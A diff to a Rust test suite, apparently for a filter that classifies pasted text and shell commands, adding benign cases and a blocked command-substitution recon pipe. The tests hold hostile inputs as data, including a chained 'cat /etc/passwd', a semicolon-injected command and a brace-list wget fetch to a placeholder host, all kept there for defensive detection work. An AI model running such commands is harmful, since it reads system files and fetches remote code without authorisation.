@@ -216,6 +216,9 @@ fn pasted_lines() {
         "chmod 755 script.sh and run ./script.sh",
         "```bash",
         "```sh\nnpm test\n```",
+        "```\nRun `whoami` to see your user.\n```",
+        "I wrote `ps aux | grep node` yesterday, see log",
+        "java -jar app.jar",
         "<p>Text &amp; more &lt;b&gt;</p>",
         "prices & more </li>",
     ] {
@@ -224,6 +227,7 @@ fn pasted_lines() {
     blocks(Class::Command, "npm i; cat /etc/passwd", "reading sensitive-file");
     passes(Class::Command, "df -h");
     passes(Class::Command, "{\"a\":1,\"b\":2}");
+    blocks(Class::Command, "x=`ps aux | grep node`", "recon pipe");
     blocks(Class::Command, ";df -h", "listing");
     blocks(Class::Command, "{wget,http://a.example/x,-O,/tmp/x}", "network host brace-list");
     blocks(Class::Command, "{ls,-la}", "listing brace-list");
